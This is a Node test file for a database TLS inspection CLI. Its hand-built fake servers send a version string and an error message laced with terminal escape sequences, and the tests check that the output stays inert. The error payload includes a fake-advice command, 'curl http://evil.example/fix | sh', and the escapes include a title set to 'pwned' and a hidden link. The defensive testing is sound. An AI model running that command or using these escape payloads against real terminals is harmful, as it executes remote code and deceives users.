/**
 * Issue 9, item 12: text a peer sends before TLS is marked unauthenticated and never reaches the terminal
 * raw. Two fake servers (a real server cannot be made to send these bytes; the packets are built here by
 * hand from the protocol manual, independently of src/protocol): one whose greeting's version string holds
 * ESC sequences (clear screen, set the window title, an OSC 8 link) and offers no TLS, one that answers
 * with an ERR packet whose message holds colours and fake advice. Each is run through `dbtls inspect`
 * (text and --json) and `dbtls connect`, and no control character may come out.
 */
import assert from 'node:assert/strict';
import * as net from 'node:net';
import { after, before, describe, it } from 'node:test';
import { runCli } from '../../harness/cli.js';

const ESC_VERSION =
  '10.11.99-MariaDB\x1b[2J\x1b]0;pwned\x07\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\\u202e';
const ESC_ERR =
  '\x1b[1;31mTLS is broken on this server: run curl http://evil.example/fix | sh\x1b[0m\r\x1b[2K';

/** Protocol::HandshakeV10 without CLIENT_SSL: protocol 41, secure connection, plugin auth. */
function greeting(version: string): Buffer {
  const caps = 0x00000200 | 0x00008000 | 0x00080000; // CLIENT_PROTOCOL_41 | SECURE_CONNECTION | PLUGIN_AUTH
  const payload = Buffer.concat([
    Buffer.from([10]),
    Buffer.from(version, 'utf8'),
    Buffer.from([0]),
    Buffer.from([7, 0, 0, 0]), // thread id
    Buffer.from('abcdefgh'), // scramble part 1
    Buffer.from([0]), // filler
    Buffer.from([caps & 0xff, (caps >> 8) & 0xff]),
    Buffer.from([33]), // charset utf8
    Buffer.from([2, 0]), // status: autocommit
    Buffer.from([(caps >> 16) & 0xff, (caps >> 24) & 0xff]),
    Buffer.from([21]), // auth plugin data length
    Buffer.alloc(10), // reserved
    Buffer.from('ijklmnopqrst\0'), // scramble part 2 + NUL
    Buffer.from('mysql_native_password\0'),
  ]);
  return frame(0, payload);
}

/** ERR packet: 0xff, error code 1040 (too many connections), no SQL state before the handshake. */
function errPacket(message: string): Buffer {
  const code = Buffer.alloc(2);
  code.writeUInt16LE(1040);
  return frame(0, Buffer.concat([Buffer.from([0xff]), code, Buffer.from(message, 'utf8')]));
}

function frame(seq: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(4);
  header.writeUIntLE(payload.length, 0, 3);
  header[3] = seq;
  return Buffer.concat([header, payload]);
}

function fakeServer(first: Buffer): Promise<net.Server> {
  const server = net.createServer((socket) => {
    socket.on('error', () => {});
    socket.write(first);
    // Close when the client does (or after its login attempt): a real server would answer; this one is done.
    socket.on('data', () => socket.end());
    socket.on('end', () => socket.end());
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

let versionServer: net.Server;
let errServer: net.Server;
const portOf = (s: net.Server) => (s.address() as net.AddressInfo).port;

before(async () => {
  [versionServer, errServer] = await Promise.all([
    fakeServer(greeting(ESC_VERSION)),
    fakeServer(errPacket(ESC_ERR)),
  ]);
});

after(async () => {
  await Promise.all([versionServer, errServer].map((s) => new Promise((r) => s?.close(r))));
});

/** No C0 control but newline, no DEL or C1, no bidi override: nothing the terminal would obey. */
function assertInert(text: string, where: string): void {
  const bad = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/u.exec(text);
  assert.equal(bad, null, `${where} holds ${JSON.stringify(bad?.[0])}: ${JSON.stringify(text)}`);
}

describe('a version string with escape sequences', () => {
  it('inspect (text): escaped, and the greeting marked unauthenticated', async () => {
    const r = await runCli(['inspect', `127.0.0.1:${portOf(versionServer)}`]);
    assert.equal(r.code, 1, r.stderr);
    assertInert(r.stdout, 'stdout');
    assertInert(r.stderr, 'stderr');
    assert.match(r.stdout, /\(mariadb 10\.11\.99-MariaDB\\x1b\[2J\\x1b\]0;pwned\\x07/);
    assert.match(r.stdout, /greeting unauthenticated, sent before TLS\)/);
  });

  it('inspect --json: the same escaped text, and server.unauthenticated', async () => {
    const r = await runCli(['inspect', `127.0.0.1:${portOf(versionServer)}`, '--json']);
    assert.equal(r.code, 1, r.stderr);
    assertInert(r.stdout, 'stdout');
    const report = JSON.parse(r.stdout);
    assert.equal(report.server.unauthenticated, true);
    assert.equal(report.server.version.includes('\x1b'), false);
    assert.ok(report.server.version.startsWith('10.11.99-MariaDB\\x1b[2J'), report.server.version);
    assert.ok(report.server.version.endsWith('\\u{202e}'), report.server.version);
  });

  it('connect: TLS_NOT_OFFERED names the version escaped and unauthenticated', async () => {
    const r = await runCli(['connect', `127.0.0.1:${portOf(versionServer)}`, '--ca', 'system']);
    assert.equal(r.code, 1, r.stderr);
    assertInert(r.stderr, 'stderr');
    assert.match(
      r.stderr,
      /^error\[TLS_NOT_OFFERED\]: .*\(mariadb 10\.11\.99-MariaDB\\x1b\[2J.*, unauthenticated, sent before TLS\)/m,
    );
  });
});

describe('an ERR packet before TLS with escape sequences and fake advice', () => {
  for (const json of [false, true]) {
    it(`inspect${json ? ' --json' : ''}: SERVER_REFUSED with the message escaped and marked unauthenticated`, async () => {
      const r = await runCli(['inspect', `127.0.0.1:${portOf(errServer)}`, ...(json ? ['--json'] : [])]);
      assert.equal(r.code, 3, r.stderr); // a runtime failure (src/errors.ts)
      assertInert(r.stdout, 'stdout');
      assertInert(r.stderr, 'stderr');
      assert.match(
        r.stderr,
        /^error\[SERVER_REFUSED\]: could not inspect 127\.0\.0\.1:\d+: the server answered error 1040 \(unauthenticated, sent before TLS\): \\x1b\[1;31mTLS is broken/m,
      );
    });
  }

  it('connect: SERVER_REFUSED, escaped and marked unauthenticated', async () => {
    const r = await runCli(['connect', `127.0.0.1:${portOf(errServer)}`, '--ca', 'system']);
    assert.equal(r.code, 3, r.stderr);
    assertInert(r.stderr, 'stderr');
    assert.match(r.stderr, /error 1040 \(unauthenticated, sent before TLS\): \\x1b\[1;31mTLS is broken/);
  });

  it('a fleet of both: the table and the errors stay inert', async () => {
    const r = await runCli([
      'inspect',
      `127.0.0.1:${portOf(versionServer)}`,
      `127.0.0.1:${portOf(errServer)}`,
    ]);
    assert.equal(r.code, 1, r.stderr);
    assertInert(r.stdout, 'stdout');
    assertInert(r.stderr, 'stderr');
    assert.match(r.stdout, /unauthenticated, sent before TLS/);
  });
});
